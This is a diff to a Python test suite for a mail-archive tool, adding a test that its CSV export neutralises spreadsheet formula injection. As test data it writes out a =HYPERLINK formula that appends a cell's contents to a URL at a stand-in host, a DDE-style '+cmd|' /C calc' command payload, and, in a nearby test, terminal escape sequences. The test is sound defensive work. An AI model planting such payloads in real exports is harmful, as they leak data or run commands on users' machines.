@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import re
@@ -166,6 +168,17 @@ def test_a_terminal_is_not_steered(words):
 
 def test_csv_for_a_program_is_as_the_mail_has_it(bell):
     assert "\u202eover \x9b2J" in bell("export", "messages", "--format", "csv").out
+
+
+def test_a_spreadsheet_runs_nothing_of_a_mail(listminer, tmp_path):
+    formula = '=HYPERLINK("http://x.example/"&A1,"see")'
+    text = b"From: =SUM <=a@x.org>\nSubject: %s\nMessage-ID: <=i@x.org>\n\n" % formula.encode()
+    (tmp_path / "x.eml").write_bytes(text + b"+cmd|' /C calc'!A0\n")
+    listminer("ingest", tmp_path / "x.eml")
+    (row,) = csv.DictReader(io.StringIO(listminer("export", "messages", "--format", "csv").out))
+    assert row["subject"] == "'" + formula
+    assert not [cell for cell in row.values() if cell.startswith(("=", "+"))]
+    assert listminer("export", "messages").json["subject"] == formula
 
 
 def test_each_mark_of_a_hit_is_closed_whatever_stands_in_the_mail(listminer, tmp_path):
